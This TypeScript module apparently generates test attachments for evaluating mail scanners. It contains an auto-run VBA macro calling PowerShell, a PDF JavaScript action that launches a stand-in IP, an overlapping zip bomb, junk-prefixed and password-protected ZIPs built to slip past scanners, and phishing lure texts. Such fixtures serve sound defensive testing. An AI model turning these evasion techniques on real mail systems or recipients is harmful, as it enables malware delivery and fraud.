/**
 * Payload files by kind (scenarios/payload-kinds.json), made from fixed bytes plus a per-cell marker so
 * the leak check can tell this cell's plaintext from any other mail in a reused world. Archives are made
 * with core's `createZip` (ZipCrypto for the PPAP shape, APPNOTE 6.1).
 */
import { createVbaProject, createZip } from '@ssmax/core';
import { EICAR } from '@ssmax/sim-org';

/** One file as the cell sends it. */
export interface PayloadFile {
  readonly kind: string;
  readonly name: string;
  readonly contentType: string;
  readonly content: Uint8Array;
  /** The file harms the recipient when opened (payload-kinds.json `malicious`). */
  readonly malicious: boolean;
  /** For an encrypted ZIP: the password (sent in a second mail / the body) and the harmful entry's bytes. */
  readonly zip?: { readonly password: string; readonly inner: Uint8Array; readonly innerName: string };
}

export interface Payload {
  readonly files: readonly PayloadFile[];
  readonly subject: string;
  readonly body: string;
  /** A string that occurs in the subject (metadata) of this cell's mail only. */
  readonly subjectMarker: string;
  /** A string that occurs in the body of this cell's mail only. */
  readonly bodyMarker: string;
  /** PPAP password of the archive, when a file is an encrypted ZIP. */
  readonly zipPassword?: string;
}

const te = new TextEncoder();

/**
 * A minimal OOXML package whose word/vbaProject.bin is a real VBA project ([MS-OVBA]: a compound file
 * with the _VBA_PROJECT, dir and module streams, core createVbaProject), so that a scanner finds the
 * macro by parsing it, as in real Emotet documents: ClamAV reports Heuristics.OLE2.ContainsMacros.VBA.
 */
function macroDocm(marker: string): Uint8Array {
  const vba = createVbaProject([
    { name: 'ThisDocument', source: `Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "powershell -enc AAAA" ' ${marker}\r\nEnd Sub\r\n` },
  ]);
  return createZip([
    {
      name: '[Content_Types].xml',
      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    },
    { name: 'word/document.xml', data: `<w:document><w:body><w:p><w:r><w:t>Please enable editing ${marker}</w:t></w:r></w:p></w:body></w:document>` },
    { name: 'word/vbaProject.bin', data: vba },
  ]);
}

let bombKernel: Uint8Array | undefined;

/**
 * A macro document behind an overlapping zip bomb (issue 10 item 3): the first member, an archive of
 * 4 x 32 MiB of zeros stored once, is named by 1000 central-directory records that all point at its one
 * local header; the macro document follows as an ordinary member. A reader that opens every record (and
 * gives each nested archive a fresh budget) inflates 125 GiB before it reaches the macro; 7-Zip-style
 * extractors that do not check overlaps still extract the document.
 */
function macroBehindZipBomb(marker: string): Uint8Array {
  bombKernel ??= createZip([0, 1, 2, 3].map((i) => ({ name: `z${i}.bin`, data: new Uint8Array(32 * 1024 * 1024 - 1) })));
  return createZip([
    { name: 'archive.zip', data: bombKernel, method: 'store', raw: { centralCopies: 1000 } },
    { name: 'seikyu.docm', data: macroDocm(marker) },
  ]);
}

function pdf(text: string): Uint8Array {
  return te.encode(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% ${text}\n%%EOF\n`);
}

const BODIES: Record<string, string> = {
  business: 'Hello,\nplease find the document we discussed attached.\nBest regards',
  'payment-request': 'Dear customer,\nour bank details have changed. Please pay the attached invoice to the new account today.\nAccounts department',
  'lure-urgent': 'URGENT: your account will be closed within 24 hours unless you open the attached form now.',
};

/** Builds the cell's files and text. `marker` must be unique to the cell (e.g. derived from its seed). */
export function makePayload(spec: { readonly files?: readonly { kind: string; name: string }[]; readonly body?: string }, marker: string): Payload {
  const password = `pp-${marker.slice(0, 8)}`;
  let zipPassword: string | undefined;
  const files = (spec.files ?? []).map((f): PayloadFile => {
    switch (f.kind) {
      case 'confidential-doc':
        return {
          kind: f.kind,
          name: f.name,
          contentType: 'application/pdf',
          malicious: false,
          content: pdf(`CONFIDENTIAL merger terms, do not forward. ref ${marker}`),
        };
      case 'invoice-pdf':
        return {
          kind: f.kind,
          name: f.name,
          contentType: 'application/pdf',
          malicious: false,
          content: pdf(`INVOICE 2024-11 pay to IBAN XX00 ATTACKER 0000 ref ${marker}`),
        };
      case 'novel-malware':
        return {
          kind: f.kind,
          name: f.name,
          contentType: 'application/pdf',
          malicious: true,
          content: pdf(`/OpenAction << /S /JavaScript /JS (app.launchURL("http://203.0.113.9/${marker}")) >>`),
        };
      case 'eicar':
        return { kind: f.kind, name: f.name, contentType: 'application/octet-stream', malicious: true, content: te.encode(EICAR) };
      case 'macro-docm':
        return { kind: f.kind, name: f.name, contentType: 'application/vnd.ms-word.document.macroEnabled.12', malicious: true, content: macroDocm(marker) };
      case 'macro-docm-in-zip-behind-junk': {
        // A plain ZIP with foreign bytes in front and its offsets left as they were (`cat junk a.zip`):
        // 7-Zip, WinRAR and Info-ZIP open it from its end record, a scanner that looks at byte 0 does not.
        const zip = createZip([{ name: 'seikyu.docm', data: macroDocm(marker) }]);
        const content = new Uint8Array(Buffer.concat([Buffer.from(`junk ${marker}\n`, 'latin1'), zip]));
        return { kind: f.kind, name: f.name, contentType: 'application/zip', malicious: true, content };
      }
      case 'macro-docm-behind-zip-bomb':
        return { kind: f.kind, name: f.name, contentType: 'application/zip', malicious: true, content: macroBehindZipBomb(marker) };
      case 'eicar-in-encrypted-zip':
      case 'macro-docm-in-encrypted-zip': {
        const eicar = f.kind === 'eicar-in-encrypted-zip';
        const inner = eicar ? te.encode(EICAR) : macroDocm(marker);
        // ZipCrypto leaves member names readable (APPNOTE 6.1), and scanners refuse blocked extensions
        // (.com, .docm) by name; PPAP malware therefore travels as an innocuous name, as Emotet's
        // "請求書.doc" did (seed 002). The scanners judge names; the recipient opens the content.
        const innerName = eicar ? 'document.doc' : 'seikyu.doc';
        zipPassword = password;
        const content = createZip([{ name: innerName, data: inner }], { password });
        return { kind: f.kind, name: f.name, contentType: 'application/zip', malicious: true, content, zip: { password, inner, innerName } };
      }
      default:
        throw new TypeError(`Unknown payload kind "${f.kind}".`);
    }
  });
  const subjectMarker = `ref-${marker}`;
  const bodyMarker = `body-${marker}`;
  let body = `${BODIES[spec.body ?? 'business'] ?? BODIES['business']!}\n[${bodyMarker}]\n`;
  // PPAP: the password goes to the recipient in a second message; the executor carries it in the body
  // text (the recipient can read it either way) so "usable form" means the recipient could open it.
  if (zipPassword) body += `The password for the archive follows: ${zipPassword}\n`;
  return { files, subject: `Documents ${subjectMarker}`, body, subjectMarker, bodyMarker, ...(zipPassword ? { zipPassword } : {}) };
}
